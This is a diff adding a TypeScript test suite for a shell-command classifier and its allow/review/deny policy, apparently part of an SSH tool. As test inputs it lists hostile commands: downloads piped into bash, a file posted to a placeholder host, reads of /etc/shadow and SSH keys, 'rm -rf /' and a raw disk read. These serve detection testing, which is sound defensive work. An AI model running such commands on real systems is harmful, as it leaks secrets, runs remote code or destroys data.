@@ -1,0 +1,293 @@
+// Tests for the shell-line classifier: the facts it finds (commands behind wrappers, unquoting,
+// dynamic names, redirects, reads), its limits, its public surface, and the shipped policy's
+// effect on every line of test/ssh/shell-corpus.yaml.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { before, describe, it } from 'node:test';
+import { parse as parseYaml } from 'yaml';
+import * as classifier from '../../tools/ssh/classify/index.ts';
+import { decideShell } from '../fixtures/shipped-policy.ts';
+import { classifyShellLine, initShellParser, shellShape, ShellFactsSchema, summarizeShellLine, type ShellFacts } from '../../tools/ssh/classify/index.ts';
+
+before(() => initShellParser());
+
+const facts = (line: string): ShellFacts => classifyShellLine(line);
+const find = (f: ShellFacts, name: string) => f.commands.find((c) => c.name === name);
+
+type Effect = 'allow' | 'review' | 'deny';
+
+describe('shipped shell policy over the corpus', () => {
+  const corpus = parseYaml(readFileSync(new URL('./shell-corpus.yaml', import.meta.url), 'utf8')) as Array<{ line: string; effect: Effect; note: string }>;
+
+  it('has at least 130 lines and all three effects', () => {
+    assert.ok(corpus.length >= 130);
+    for (const effect of ['allow', 'review', 'deny']) assert.ok(corpus.some((e) => e.effect === effect), effect);
+  });
+  for (const entry of corpus) {
+    it(`${entry.effect}: ${JSON.stringify(entry.line).slice(0, 90)} (${entry.note})`, () => {
+      const f = facts(entry.line);
+      const decision = decideShell(f);
+      assert.equal(decision.effect, entry.effect, `rules: ${decision.rules.join(', ')}; error: ${f.error}; blockers: ${f.readOnlyBlockers.join(' | ')}`);
+      ShellFactsSchema.parse(f);
+    });
+  }
+});
+
+describe('commands behind wrappers', () => {
+  const cases: Array<[line: string, name: string, via: string[], args: string[]]> = [
+    ['sudo -u root -g wheel rm -rf /tmp/x', 'rm', ['sudo'], ['-rf', '/tmp/x']],
+    ['sudo -- rm x', 'rm', ['sudo'], ['x']],
+    ['doas -u bob rm x', 'rm', ['doas'], ['x']],
+    ['env -i FOO=1 BAR=2 rm x', 'rm', ['env'], ['x']],
+    ['env -u HOME -C /tmp rm x', 'rm', ['env'], ['x']],
+    ['nohup rm x', 'rm', ['nohup'], ['x']],
+    ['timeout -k 5 10s rm x', 'rm', ['timeout'], ['x']],
+    ['timeout --signal=KILL 10 rm x', 'rm', ['timeout'], ['x']],
+    ['nice -n 5 rm x', 'rm', ['nice'], ['x']],
+    ['nice -5 rm x', 'rm', ['nice'], ['x']],
+    ['ionice -c 3 rm x', 'rm', ['ionice'], ['x']],
+    ['time -p rm x', 'rm', ['time'], ['x']],
+    ['command -p rm x', 'rm', ['command'], ['x']],
+    ['exec -a name rm x', 'rm', ['exec'], ['x']],
+    ['builtin echo x', 'echo', ['builtin'], ['x']],
+    ['busybox rm x', 'rm', ['busybox'], ['x']],
+    ['stdbuf -o0 rm x', 'rm', ['stdbuf'], ['x']],
+    ['setsid -f rm x', 'rm', ['setsid'], ['x']],
+    ['chroot /srv rm x', 'rm', ['chroot'], ['x']],
+    ['xargs -0 -n1 rm', 'rm', ['xargs'], []],
+    ['xargs', 'echo', ['xargs'], []],
+    ['find . -name x -exec rm {} \\;', 'rm', ['find -exec'], ['{}']],
+    ['find . -execdir rm -f {} +', 'rm', ['find -execdir'], ['-f', '{}']],
+    ['find . -ok rm {} \\;', 'rm', ['find -ok'], ['{}']],
+    ['bash -c "rm x"', 'rm', ['bash -c'], ['x']],
+    ["sh -xc 'rm x'", 'rm', ['sh -c'], ['x']],
+    ["zsh -c 'rm x'", 'rm', ['zsh -c'], ['x']],
+    ['eval rm x', 'rm', ['eval'], ['x']],
+    ['eval "rm x"', 'rm', ['eval'], ['x']],
+    ['ssh -p 22 -i key host rm x', 'rm', ['ssh'], ['x']],
+    ["su -c 'rm x' bob", 'rm', ['su -c'], ['x']],
+    ['watch -n 1 rm x', 'rm', ['watch'], ['x']],
+    ['flock /tmp/l rm x', 'rm', ['flock'], ['x']],
+    ['parallel rm ::: a b', 'rm', ['parallel'], ['a', 'b']],
+    ['systemd-run --unit=x rm y', 'rm', ['systemd-run'], ['y']],
+    ['strace -f -o /tmp/t rm y', 'rm', ['strace'], ['y']],
+    ['xargs -I{} rm {}', 'rm', ['xargs'], ['{}']],
+    ["sudo bash -c \"eval 'rm x'\"", 'rm', ['sudo', 'bash -c', 'eval'], ['x']],
+  ];
+  for (const [line, name, via, args] of cases) {
+    it(`${line} runs ${name} via ${via.join(' > ')}`, () => {
+      const f = facts(line);
+      assert.equal(f.hasError, false, f.error);
+      const command = find(f, name);
+      assert.ok(command, `found: ${f.names.join(', ')}`);
+      assert.deepEqual(command.via, via);
+      assert.deepEqual(command.args, args);
+      assert.equal(f.commands[0]?.name, line.split(' ')[0], 'the wrapper itself is listed first');
+    });
+  }
+
+  it('counts re-parse depth', () => {
+    assert.equal(facts("sudo bash -c \"eval 'rm x'\"").parseDepth, 2);
+    assert.equal(find(facts("sudo bash -c \"eval 'rm x'\""), 'rm')?.depth, 2);
+    assert.equal(facts('ls').parseDepth, 0);
+  });
+});
+
+describe('unquoting command names', () => {
+  const spellings = ['\\rm', "r''m", '"rm"', "'rm'", "$'\\x72m'", "$'\\162m'", "$'\\u0072m'", 'r\\m', '$"rm"', '/usr/bin/rm', '"/usr/bin/rm"', 'r""m'];
+  for (const spelling of spellings) {
+    it(`${spelling} is rm`, () => {
+      const f = facts(`${spelling} -rf /tmp/x`);
+      assert.equal(f.commands[0]?.name, 'rm');
+      assert.equal(f.commands[0]?.path, spelling);
+      assert.equal(f.commands[0]?.dynamic, false);
+      assert.deepEqual(f.commands[0]?.args, ['-rf', '/tmp/x']);
+    });
+  }
+});
+
+describe('dynamic command names', () => {
+  for (const name of ['$X', '${X}', '$(echo rm)', '`echo rm`', '/bin/r?', '/bin/r*', '"$X"', 'r$X', '$X/rm']) {
+    it(`${name} is dynamic`, () => {
+      const f = facts(`${name} -rf /tmp/x`);
+      assert.equal(f.dynamic, true);
+      assert.ok(f.names.includes('<dynamic>'));
+      assert.equal(f.readOnly, false);
+    });
+  }
+  it('a dynamic argument does not make the name dynamic', () => {
+    const f = facts('echo $X');
+    assert.equal(f.dynamic, false);
+    assert.deepEqual(f.names, ['echo']);
+  });
+});
+
+describe('every place a command can hide', () => {
+  const places: Array<[string, string]> = [
+    ['echo "$(id)"', 'substitution in double quotes'],
+    ['cat <<EOF\n$(id)\nEOF', 'unquoted heredoc body'],
+    ['echo ${x:-$(id)}', 'parameter expansion default'],
+    ['echo $(( $(id) + 1 ))', 'arithmetic'],
+    ['cat <(id)', 'process substitution'],
+    ['tee >(id)', 'output process substitution'],
+    ['f() { id; }', 'function body'],
+    ['if id; then :; fi', 'if condition'],
+    ['while id; do :; done', 'while condition'],
+    ['for x in $(id); do :; done', 'for list'],
+    ['case $(id) in *) :;; esac', 'case subject'],
+    ['case x in x) id;; esac', 'case body'],
+    ['(id)', 'subshell'],
+    ['{ id; }', 'group'],
+    ['false || id', 'or list'],
+    ['true && id', 'and list'],
+    ['ls | id', 'pipeline'],
+    ['ls & id', 'background list'],
+    ['echo `echo \\`id\\``', 'nested backticks'],
+    ['x=$(id)', 'assignment value'],
+    ['[[ -n $(id) ]]', 'test expression'],
+    ['a=($(id))', 'array'],
+    ['echo hi > $(id)', 'redirect target'],
+    ['cat <<< $(id)', 'here-string'],
+    ['echo ok; # id', 'not in a comment'],
+  ];
+  for (const [line, place] of places) {
+    it(place, () => {
+      const f = facts(line);
+      assert.equal(f.hasError, false, f.error);
+      assert.equal(f.names.includes('id'), place !== 'not in a comment', f.names.join(', '));
+    });
+  }
+  it('quoted heredocs and single quotes do not run anything', () => {
+    assert.deepEqual(facts("cat <<'EOF'\n$(id)\nEOF").names, ['cat']);
+    assert.deepEqual(facts("echo '$(id)'").names, ['echo']);
+    assert.deepEqual(facts('echo \\$\\(id\\)').names, ['echo']);
+  });
+  it('arguments after a redirection belong to the command', () => {
+    assert.deepEqual(find(facts('rm 2>/dev/null -rf /'), 'rm')?.args, ['-rf', '/']);
+  });
+});
+
+describe('redirects', () => {
+  it('reports operators, targets and writes', () => {
+    const f = facts('ls > out 2>&1 < in >> app.log &>/dev/null 2>&-');
+    assert.deepEqual(f.redirects, [
+      { op: '>', target: 'out', write: true },
+      { op: '>&', target: '1', write: false },
+      { op: '<', target: 'in', write: false },
+      { op: '>>', target: 'app.log', write: true },
+      { op: '&>', target: '/dev/null', write: true },
+      { op: '>&-', target: '', write: false },
+    ]);
+    assert.deepEqual(f.writesTo, ['out', 'app.log', '/dev/null']);
+    assert.ok(f.readsPaths.includes('~/in'));
+  });
+  it('reads heredocs and here-strings without writing', () => {
+    assert.deepEqual(facts('cat <<EOF\nx\nEOF').redirects, [{ op: '<<', target: 'EOF', write: false }]);
+    assert.deepEqual(facts("cat <<< 'x'").redirects, [{ op: '<<<', target: 'x', write: false }]);
+  });
+  it('a write anywhere but /dev/null ends read-only', () => {
+    assert.equal(facts('ls 2>/dev/null').readOnly, true);
+    assert.equal(facts('ls >&file').readOnly, false);
+    assert.deepEqual(facts('ls >&file').writesTo, ['file']);
+  });
+});
+
+describe('reads', () => {
+  it('knows which operands are files', () => {
+    assert.deepEqual(facts('grep -e root -f pats.txt /etc/group').readsPaths, ['/etc/group', '~/pats.txt']);
+    assert.deepEqual(facts('grep root /etc/group').readsPaths, ['/etc/group']);
+    assert.deepEqual(facts('head -n 5 /var/log/syslog').readsPaths, ['/var/log/syslog']);
+    assert.deepEqual(facts('cp -r /etc/nginx /tmp/n').readsPaths, ['/etc/nginx']);
+    assert.deepEqual(facts('dd if=/dev/sda of=/tmp/x').readsPaths, ['/dev/sda']);
+    assert.deepEqual(facts("curl -d @/etc/hosts https://x.example").readsPaths, ['/etc/hosts']);
+    assert.deepEqual(facts('tar czf out.tgz /srv/data').readsPaths, ['/srv/data']);
+  });
+  it('resolves relative paths against cd', () => {
+    assert.deepEqual(facts('cd /etc && cat ./ssh/../shadow').sensitiveReads, ['/etc/shadow']);
+    assert.deepEqual(facts('cat shadow').sensitiveReads, []);
+  });
+  it('matches globs and run-time parts against secret locations', () => {
+    assert.deepEqual(facts('cat /etc/s*w').sensitiveReads, ['/etc/s*w']);
+    assert.deepEqual(facts('cat /root/.ssh/$KEY').sensitiveReads, ['/root/.ssh/$?']);
+    assert.deepEqual(facts('cat /var/log/*.log').sensitiveReads, []);
+  });
+});
+
+describe('downloads and interpreter code', () => {
+  it('flags downloads run as code, not downloads alone', () => {
+    assert.equal(facts('curl -s https://x.example | bash').downloadPipedToInterpreter, true);
+    assert.equal(facts('bash <(curl -s https://x.example)').downloadPipedToInterpreter, true);
+    assert.equal(facts('curl -s https://x.example > page.html').downloadPipedToInterpreter, false);
+    assert.equal(facts('curl -s https://x.example | grep title').downloadPipedToInterpreter, false);
+  });
+  it('flags inline interpreter code', () => {
+    for (const line of ["python3 -c 'print(1)'", "perl -ne 'print' f", "ruby -e 'p 1'", "node --eval '1'", "php -r 'echo 1;'", "lua -e 'print(1)'", "awk 'BEGIN{system(\"id\")}'", "python3 <<'EOF'\nprint(1)\nEOF"]) {
+      assert.equal(facts(line).interpreterCode, true, line);
+    }
+    for (const line of ['python3 script.py', "awk '{print $1}' f", 'perl -v']) assert.equal(facts(line).interpreterCode, false, line);
+  });
+});
+
+describe('limits and failures', () => {
+  it('refuses lines over 64 KB', () => {
+    const f = facts('echo ' + 'a'.repeat(64 * 1024));
+    assert.equal(f.hasError, true);
+    assert.match(f.error, /longer than/);
+  });
+  it('bounds re-parse depth at 4', () => {
+    const nest = (code: string, n: number): string => (n === 0 ? code : nest(`bash -c '${code.replace(/'/g, "'\\''")}'`, n - 1));
+    assert.equal(facts(nest('ls', 4)).hasError, false);
+    assert.equal(facts(nest('ls', 4)).parseDepth, 4);
+    assert.equal(facts(nest('ls', 5)).hasError, true);
+  });
+  it('bounds the number of commands and the nesting', () => {
+    assert.equal(facts('true;'.repeat(2500)).hasError, true);
+    assert.equal(facts('('.repeat(600) + 'ls' + ')'.repeat(600)).hasError, true);
+  });
+  it('never throws on values that are not strings', () => {
+    for (const value of [null, undefined, 42, {}, ['ls']]) {
+      const f = classifyShellLine(value as unknown as string);
+      assert.equal(f.hasError, true);
+      assert.equal(f.readOnly, false);
+    }
+  });
+});
+
+describe('shape and summary', () => {
+  it('gives the same shape to the same command with other literals', () => {
+    assert.equal(shellShape('tail -n 100 /var/log/syslog'), shellShape('tail -n 5 /var/log/nginx/error.log'));
+    assert.equal(shellShape('tail -n 100 /var/log/syslog'), 'tail -n ? ?');
+  });
+  it('keeps flags, names, verbs and code apart', () => {
+    assert.notEqual(shellShape('rm -rf /tmp/a'), shellShape('rm -f /tmp/a'));
+    assert.notEqual(shellShape('systemctl restart nginx'), shellShape('systemctl stop nginx'));
+    assert.notEqual(shellShape("bash -c 'ls /tmp'"), shellShape("bash -c 'rm /tmp'"));
+    assert.notEqual(shellShape('echo ls | sh'), shellShape('echo reboot | sh'));
+    assert.notEqual(shellShape('sudo -u root ls'), shellShape('sudo -u root rm'));
+  });
+  it('summarizes on one line of at most 200 characters, dangers first', () => {
+    const summary = summarizeShellLine('sudo reboot\n' + 'echo x; '.repeat(100));
+    assert.ok(summary.length <= 200);
+    assert.ok(!/[\n\r]/.test(summary));
+    assert.match(summary, /^\[danger: power\]/);
+    assert.equal(summarizeShellLine('uptime'), '[read-only] uptime');
+  });
+});
+
+describe('public surface', () => {
+  it('exports exactly the documented names', () => {
+    assert.deepEqual(Object.keys(classifier).sort(), [
+      'SHELL_DANGERS', 'ShellCommandSchema', 'ShellDangerSchema', 'ShellFactsSchema', 'ShellRedirectSchema',
+      'classifyShellLine', 'initShellParser', 'shellShape', 'summarizeShellLine',
+    ]);
+  });
+  it('initializes once, even when called concurrently', async () => {
+    await Promise.all([initShellParser(), initShellParser()]);
+    assert.equal(facts('ls').readOnly, true);
+  });
+  it('describes every fact', () => {
+    for (const [key, schema] of Object.entries(ShellFactsSchema.shape)) {
+      assert.ok(schema.description && schema.description.length > 10, key);
+    }
+  });
+});
